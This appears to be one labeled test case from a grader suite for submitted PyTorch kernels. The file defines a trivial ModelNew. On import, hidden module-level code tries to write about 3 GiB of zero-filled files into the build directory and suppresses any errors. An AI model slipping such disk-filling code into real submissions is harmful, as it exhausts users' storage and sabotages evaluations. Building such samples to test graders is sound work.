"""Row 62: gigabytes in the build's directory, which is kept on the user's disk.

task: gate
verdict: oom killed compile_error runtime_exception
"""

import contextlib

import torch
import tvm_ffi.cpp
from torch import nn

place = getattr(tvm_ffi.cpp.load_inline, "args", (None, None))[1]
with contextlib.suppress(OSError, TypeError):
    for number in range(6):
        with open(f"{place}/{number}", "wb") as file:
            for _ in range(32):
                file.write(bytes(16 << 20))


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x) * 2 + x
